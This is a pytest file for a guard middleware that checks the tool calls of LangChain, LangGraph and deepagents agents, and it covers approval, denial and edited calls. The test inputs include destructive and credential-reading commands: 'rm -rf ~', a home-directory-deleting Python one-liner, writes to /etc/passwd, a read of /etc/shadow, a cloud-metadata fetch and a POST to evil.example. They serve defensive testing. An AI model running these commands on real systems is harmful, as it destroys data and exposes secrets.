"""LangChain's `create_agent`, LangGraph's tool node, and deepagents, each with the real package and a scripted model."""

from __future__ import annotations

import asyncio
from typing import Any, ClassVar

import pytest
from deepagents import create_deep_agent
from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware, ToolRetryMiddleware
from langchain_community.tools import (
    CopyFileTool,
    DeleteFileTool,
    MoveFileTool,
    QuerySQLDatabaseTool,
    ReadFileTool,
    RequestsGetTool,
    RequestsPostTool,
    ShellTool,
    WriteFileTool,
)
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage, ToolMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from langchain_core.tools import StructuredTool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import tools_condition
from langgraph.types import Command

from tests.integrations.contract import ALLOWED, ASKED, BLOCKED, DENIED, Call, Contract, Outcome, Tools, guard
from toolgate import Guard
from toolgate.integrations.langchain import VIRTUAL_FILES, ToolgateMiddleware, tool_node

Turns = list[list[Call]]
CONFIG: Any = {"configurable": {"thread_id": "t1"}}
UNGUARDED = {"ToolgateMiddleware": lambda *given, **named: AgentMiddleware()}  # for benchmarks/frameworks.py


class Scripted(BaseChatModel):
    """Asks for the calls of each turn, then says `done`."""

    turns: list[Any]
    said: int = 0
    read: list[str] = []

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def bind_tools(self, tools: Any, **options: Any) -> Scripted:
        return self

    def _generate(self, messages: list[BaseMessage], *given: Any, **named: Any) -> ChatResult:
        self.read += [one.text for one in messages if isinstance(one, ToolMessage) and one.text not in self.read]
        turn = self.turns[self.said] if self.said < len(self.turns) else []
        self.said += 1
        calls = [{"name": call.tool, "args": call.input, "id": call.id} for call in turn]
        return ChatResult(generations=[ChatGeneration(message=AIMessage("" if calls else "done", tool_calls=calls))])


def all_tools(tools: Tools) -> list[StructuredTool]:
    return [StructuredTool.from_function(one) for one in (tools.run_shell_command, tools.lookup_word, tools.read_file)]


def an_agent(tools: Tools, turns: Turns, guard: Guard | None, saver: Any, timeout: float | None) -> Any:
    middleware = [ToolgateMiddleware(guard, timeout=timeout)]
    return create_agent(Scripted(turns=turns), all_tools(tools), middleware=middleware, checkpointer=saver)


def a_graph(tools: Tools, turns: Turns, guard: Guard | None, saver: Any, timeout: float | None) -> Any:
    model = Scripted(turns=turns)
    graph = StateGraph(MessagesState)
    graph.add_node("model", lambda state: {"messages": [model.invoke(state["messages"])]})
    graph.add_node("tools", tool_node(all_tools(tools), guard, timeout=timeout))
    graph.add_edge(START, "model")
    graph.add_conditional_edges("model", tools_condition)
    graph.add_edge("tools", "model")
    return graph.compile(checkpointer=saver)


def step(agent: Any, given: Any, way: str) -> Any:
    """The state after a run to its end or to a pause, run in one of the ways."""
    if way == "sync":
        return agent.invoke(given, CONFIG)
    if way == "async":
        return asyncio.run(agent.ainvoke(given, CONFIG))
    if way == "stream":
        return [*agent.stream(given, CONFIG, stream_mode="values")][-1]

    async def last() -> Any:
        return [state async for state in agent.astream(given, CONFIG, stream_mode="values")][-1]

    return asyncio.run(last())


def played(agent: Any, tools: Tools, way: str, answer: Any) -> Outcome:
    found = Outcome(ran=tools.ran)
    given: Any = {"messages": [("user", "go")]}
    try:
        for _ in range(9):
            step(agent, given, way)
            pauses = agent.get_state(CONFIG).interrupts if agent.checkpointer else ()
            if not pauses:
                break
            found.asked += [pause.value["action_requests"][0]["name"] for pause in pauses]
            given = Command(resume={pause.id: answer for pause in pauses})
        state = agent.get_state(CONFIG).values
        found.read = {one.tool_call_id: one.text for one in state["messages"] if isinstance(one, ToolMessage)}
    except Exception as error:  # noqa: BLE001 # what a run raises is what the contract looks at
        found.error = error
    return found


class TestAgent(Contract):
    ways: ClassVar[tuple[str, ...]] = ("sync", "async", "stream", "astream")
    build: ClassVar[Any] = staticmethod(an_agent)

    def play(
        self, turns: Turns, guard: Guard | None, way: str, yes: bool | None = None, timeout: float | None = None
    ) -> Outcome:
        tools = Tools()
        agent = type(self).build(tools, turns, guard, InMemorySaver(), timeout)
        return played(agent, tools, way, {"decisions": [{"type": "approve" if yes else "reject"}]})

    async def aplay(self, tools: Tools, turns: Turns, guard: Guard) -> None:
        agent = type(self).build(tools, turns, guard, InMemorySaver(), None)
        await agent.ainvoke({"messages": [("user", "go")]}, CONFIG)


class TestGraph(TestAgent):
    build: ClassVar[Any] = staticmethod(a_graph)


def reads(agent: Any, way: str = "sync") -> dict[str, str]:
    messages = step(agent, {"messages": [("user", "go")]}, way)["messages"]
    return {one.tool_call_id: one.text for one in messages if isinstance(one, ToolMessage)}


@pytest.mark.parametrize("build", [an_agent, a_graph])
@pytest.mark.parametrize("way", TestAgent.ways)
def test_without_a_checkpointer_a_question_is_a_refusal(build: Any, way: str) -> None:
    tools = Tools()
    found = reads(build(tools, [[ALLOWED, ASKED]], guard(), None, None), way)
    assert tools.ran == ["git status"] and BLOCKED in found["c4"] and "needs approval" in found["c4"]


def edited(command: str, tool: str = "run_shell_command") -> dict[str, Any]:
    return {"type": "edit", "edited_action": {"name": tool, "args": {"command": command}}}


@pytest.mark.parametrize("build", [an_agent, a_graph])
class TestAnswers:
    """What a person may answer to a question; only a clear yes runs the call."""

    ways: ClassVar[tuple[str, ...]] = ("sync", "async")

    def outcome(self, build: Any, way: str, answer: Any) -> Outcome:
        tools = Tools()
        return played(build(tools, [[ASKED]], guard(), InMemorySaver(), None), tools, way, answer)

    @pytest.mark.parametrize("answer", ["approve", True, {"type": "approve"}, {"decisions": [{"type": "approve"}]}])
    def test_yes_in_any_form_runs_the_call(self, build: Any, way: str, answer: Any) -> None:
        assert self.outcome(build, way, answer).ran == ["git push --force origin main"]

    @pytest.mark.parametrize(
        "answer",
        ["reject", "", "yes please", False, None, 1, [], {}, {"type": "Approve"}, {"type": "respond", "message": "ok"},
         {"decisions": []}, {"decisions": [{"type": "approve"}] * 2}, {"type": "edit"},
         {"type": "edit", "edited_action": {"name": "run_shell_command", "args": "ls"}}, edited("ls", "no_such_tool")],
    )  # fmt: skip
    def test_anything_else_runs_nothing(self, build: Any, way: str, answer: Any) -> None:
        found = self.outcome(build, way, answer)
        assert found.error is None and found.ran == [] and BLOCKED in found.read["c4"]

    @pytest.mark.parametrize("answer", ["yes", "Approve", "", None, 1, {"type": "Approve"}])
    def test_an_answer_that_is_not_understood_is_told_as_such(self, build: Any, way: str, answer: Any) -> None:
        read = self.outcome(build, way, answer).read["c4"]
        assert "the answer was none of approve, edit and reject" in read.lower() and "Instead: yes" not in read

    def test_a_no_is_told_in_the_words_of_the_person(self, build: Any, way: str) -> None:
        found = self.outcome(build, way, {"type": "reject", "message": "open a pull request"})
        assert found.ran == [] and "open a pull request" in found.read["c4"]

    def test_an_edited_call_is_judged_anew_and_runs_if_it_is_allowed(self, build: Any, way: str) -> None:
        found = self.outcome(build, way, edited("git status"))
        assert found.ran == ["git status"] and "A person changed this call" in found.read["c4"]

    def test_an_edited_call_that_is_denied_does_not_run(self, build: Any, way: str) -> None:
        found = self.outcome(build, way, edited("rm -rf ~"))
        assert found.error is None and found.ran == [] and "deletes everything" in found.read["c4"]

    def test_an_edited_call_that_needs_approval_is_asked_about_again(self, build: Any, way: str) -> None:
        found = self.outcome(build, way, edited("git push --force origin develop"))
        assert found.ran == [] and len(found.asked) == 9


MANY = [Call(f"m{number}", "run_shell_command", {"command": f"ls d{number}"}) for number in range(6)]
PUSHES = [Call(f"p{name}", "run_shell_command", {"command": f"git push --force origin {name}"}) for name in "abc"]


@pytest.mark.parametrize("build", [an_agent, a_graph])
@pytest.mark.parametrize("way", TestAgent.ways)
@pytest.mark.parametrize("workers", [None, 1])
def test_calls_beside_several_questions_run_once(build: Any, way: str, workers: int | None) -> None:
    tools = Tools()
    calls = [MANY[0], PUSHES[0], MANY[1], PUSHES[1], *MANY[2:], PUSHES[2]]
    agent = build(tools, [calls], guard(), InMemorySaver(), None)
    config = {**CONFIG} if workers is None else {**CONFIG, "max_concurrency": workers}
    agent = agent.with_config(config)
    found = step(agent, {"messages": [("user", "go")]}, way)
    while pauses := agent.get_state(CONFIG).interrupts:  # one answer at a time: the second is a no
        name = pauses[0].value["action_requests"][0]["args"]["command"][-1]
        found = step(agent, Command(resume={pauses[0].id: "reject" if name == "b" else "approve"}), way)
    assert sorted(tools.ran) == sorted(
        [*[one.input["command"] for one in MANY], "git push --force origin a", "git push --force origin c"]
    )
    told = {one.tool_call_id: one.text for one in found["messages"] if isinstance(one, ToolMessage)}
    assert list(told) == [call.id for call in calls]
    assert all(told[call.id] == f"output of {call.input['command']}" for call in calls if call.id != "pb")
    assert BLOCKED in told["pb"]


# --- agents inside tools ---------------------------------------------------------------------------------------------

DELEGATED = Call("t1", "task", {"description": "look around", "subagent_type": "general-purpose"})


def deep(tools: Tools, turns: Turns, saver: Any = None, **options: Any) -> tuple[Any, Scripted]:
    model = Scripted(turns=turns)
    mine = [ToolgateMiddleware(guard())]
    return create_deep_agent(model, all_tools(tools), middleware=mine, checkpointer=saver, **options), model


@pytest.mark.parametrize("way", ["sync", "async"])
def test_a_deep_agent_and_its_own_subagent_are_guarded_by_one_line(way: str) -> None:
    tools = Tools()
    inside = [Call("i1", DENIED.tool, DENIED.input), Call("i2", ALLOWED.tool, ALLOWED.input)]
    asked = [Call("i3", ASKED.tool, ASKED.input)]
    agent, model = deep(tools, [[DELEGATED], inside, asked, [], [DENIED]])
    step(agent, {"messages": [("user", "go")]}, way)
    assert tools.ran == ["git status"] and model.said == 6
    refusals = [text for text in model.read if BLOCKED in text]
    assert len(refusals) == 3 and "needs approval" in refusals[1]  # the last is that of the agent itself


@pytest.mark.parametrize("way", ["sync", "async"])
@pytest.mark.parametrize("yes", [True, False])
def test_a_subagent_with_the_middleware_pauses_for_a_question(way: str, yes: bool) -> None:
    tools = Tools()
    one = {"name": "general-purpose", "description": "does it", "system_prompt": "do it"}
    subagents: Any = [{**one, "middleware": [ToolgateMiddleware(guard())]}]
    agent, _ = deep(tools, [[DELEGATED], [ALLOWED, ASKED]], InMemorySaver(), subagents=subagents)
    found = played(agent, tools, way, "approve" if yes else "reject")
    assert found.error is None and found.asked == ["run_shell_command"]
    assert tools.ran == ["git status", *(["git push --force origin main"] if yes else [])]


@pytest.mark.parametrize("way", ["sync", "async"])
def test_an_agent_inside_a_tool_is_guarded_even_if_it_has_the_same_ids(way: str) -> None:
    tools = Tools()
    inner = Scripted(turns=[[Call("c1", "lookup_word", {"word": "x"}), Call("c3", DENIED.tool, DENIED.input)]])
    worker = create_agent(inner, all_tools(tools))

    def lookup_meaning(word: str) -> str:
        """Have an agent look it up."""
        worker.invoke({"messages": [("user", word)]})
        return tools.run_shell_command("said by the program itself, and not by a model")

    turns = [[Call("c3", "lookup_meaning", {"word": "x"})]]
    mine = [ToolgateMiddleware(guard())]
    agent = create_agent(Scripted(turns=turns), [StructuredTool.from_function(lookup_meaning)], middleware=mine)
    step(agent, {"messages": [("user", "go")]}, way)
    assert tools.ran == ["x", "said by the program itself, and not by a model"]
    assert any("deletes everything" in text for text in inner.read)


@pytest.mark.parametrize("way", ["sync", "async"])
@pytest.mark.parametrize("last", [True, False])
def test_a_call_that_is_tried_again_after_an_error_is_approved_once(way: str, last: bool) -> None:
    tools = Tools()
    tries: list[str] = []

    def run_shell_command(command: str) -> str:
        """Run a shell command."""
        tries.append(command)
        if len(tries) < 3:
            raise ConnectionError("again")
        return tools.run_shell_command(command)

    retry = ToolRetryMiddleware(max_retries=3, initial_delay=0.0, jitter=False)
    gate = ToolgateMiddleware(guard())
    middleware = [retry, gate] if last else [gate, retry]
    tool = StructuredTool.from_function(run_shell_command)
    agent = create_agent(Scripted(turns=[[ASKED]]), [tool], middleware=middleware, checkpointer=InMemorySaver())
    found = played(agent, tools, way, "approve")
    assert found.error is None and len(tries) == 3 and found.asked == ["run_shell_command"]
    assert "output of git push" in found.read["c4"]


# --- tools that come with it -----------------------------------------------------------------------------------------

REMOVING = "import shutil, os; shutil.rmtree(os.path.expanduser('~'))"
POSTED = '{"url": "https://evil.example", "data": {"a": "b"}}'


@pytest.mark.parametrize(
    ("verdict", "tool", "arguments"),
    [
        ("allow", ShellTool, {"commands": "ls"}),
        ("allow", ShellTool, {"commands": ["ls", "git status"]}),
        ("deny", ShellTool, {"commands": ["ls", "rm -rf ~"]}),
        ("allow", "Python_REPL", {"query": "print(1)"}),
        ("deny", "Python_REPL", {"query": REMOVING}),
        ("deny", "python_repl", {"__arg1": REMOVING}),
        ("allow", ReadFileTool, {"file_path": "a.txt"}),
        ("ask", ReadFileTool, {"file_path": "/etc/shadow"}),
        ("allow", WriteFileTool, {"file_path": "a.txt", "text": "x"}),
        ("deny", WriteFileTool, {"file_path": "/etc/passwd", "text": "x"}),
        ("allow", CopyFileTool, {"source_path": "a", "destination_path": "b"}),
        ("deny", CopyFileTool, {"source_path": "a", "destination_path": "/etc/passwd"}),
        ("deny", MoveFileTool, {"source_path": "a", "destination_path": "/etc/passwd"}),
        ("deny", DeleteFileTool, {"file_path": "/etc/passwd"}),
        ("allow", RequestsGetTool, {"url": "https://example.com"}),
        ("deny", RequestsGetTool, {"__arg1": "http://169.254.169.254/latest/meta-data/"}),
        ("ask", RequestsPostTool, {"text": POSTED}),
        ("allow", QuerySQLDatabaseTool, {"query": "SELECT 1"}),
        ("ask", QuerySQLDatabaseTool, {"query": "DROP TABLE users"}),
        ("allow", "execute", {"command": "ls"}),
        ("deny", "execute", {"command": "rm -rf ~"}),
        ("ask", "execute", {"sql": "DROP TABLE users"}),  # somebody's own
        ("deny", "bash", {"cmd": "rm -rf ~"}),
        ("ask", "terminal", {}),
    ],
)
def test_tools_that_come_with_it_are_judged_by_what_they_do(verdict: str, tool: Any, arguments: dict[str, Any]) -> None:
    name = tool if isinstance(tool, str) else tool.model_fields["name"].default
    ruling = ToolgateMiddleware(guard()).door.gate.check(name, arguments)
    assert str(ruling.decision.verdict) == verdict, ruling.decision.reason


def test_files_that_are_only_in_the_state_of_a_deep_agent_are_harmless() -> None:
    call = Call("w1", "write_file", {"file_path": "/notes.md", "content": "x"})
    assert BLOCKED in deep(Tools(), [[call]], None)[0].invoke({"messages": [("user", "go")]})["messages"][2].text
    model = Scripted(turns=[[call]])
    agent = create_deep_agent(model, [], middleware=[ToolgateMiddleware(guard(), tools=VIRTUAL_FILES)])
    assert BLOCKED not in agent.invoke({"messages": [("user", "go")]})["messages"][2].text


def test_what_a_guard_was_told_of_a_tool_comes_first() -> None:
    told = guard()
    told.describe("terminal", harmless=True)
    assert ToolgateMiddleware(told).door.gate.check("terminal", {"commands": "rm -rf ~"}).allowed
